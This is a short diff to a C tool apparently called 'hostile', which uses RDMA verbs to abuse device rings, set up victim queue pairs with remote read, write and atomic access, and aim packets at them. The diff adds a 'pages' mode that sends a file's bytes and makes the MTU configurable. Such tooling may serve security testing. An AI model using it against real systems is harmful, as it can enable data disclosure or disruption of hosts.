@@ -5,6 +5,7 @@
  * hostile rings DEVICE SECONDS
  * hostile victim DEVICE ATTACKER	QPs for packets to be aimed at; prints them, ends with its input
  * hostile packets FROM TO COUNT	reads a victim's lines
+ * hostile pages DEVICE TO FILE LEN	sends the file's first LEN bytes from where they lie
  */
 #include <errno.h>
 #include <stdarg.h>
@@ -117,6 +118,7 @@ void make_objects(struct objects *o, const char *device, bool v6)
 	int i;
 
 	memset(o, 0, sizeof(*o));
+	o->mtu = IBV_MTU_1024;
 	for (i = 0; list && list[i]; i++)
 		if (!strcmp(ibv_get_device_name(list[i]), device))
 			o->context = ibv_open_device(list[i]);
@@ -140,7 +142,7 @@ void make_objects(struct objects *o, const char *device, bool v6)
 void connect_qp(struct objects *o, struct ibv_qp *qp, uint32_t dest, const union ibv_gid *gid)
 {
 	struct ibv_qp_attr attr = {
-		.port_num = 1, .qkey = QKEY, .path_mtu = IBV_MTU_1024, .dest_qp_num = dest, .rq_psn = 0x1000,
+		.port_num = 1, .qkey = QKEY, .path_mtu = o->mtu, .dest_qp_num = dest, .rq_psn = 0x1000,
 		.sq_psn = 0x1000, .max_dest_rd_atomic = 4, .max_rd_atomic = 4, .min_rnr_timer = 1, .timeout = 12,
 		.retry_cnt = 2, .rnr_retry = 2,
 		.qp_access_flags = IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC,
@@ -182,6 +184,8 @@ int main(int argc, char **argv)
 		abuse_rings(&o, atoi(argv[3]));
 	else if (!strcmp(verb, "victim") && argc == 4)
 		be_a_victim(&o, argv[3]);
+	else if (!strcmp(verb, "pages") && argc == 6)
+		send_file(&o, argv[3], argv[4], atoi(argv[5]));
 	else
 		return 2;
 	/* All that is left is the kernel's to clean up. */
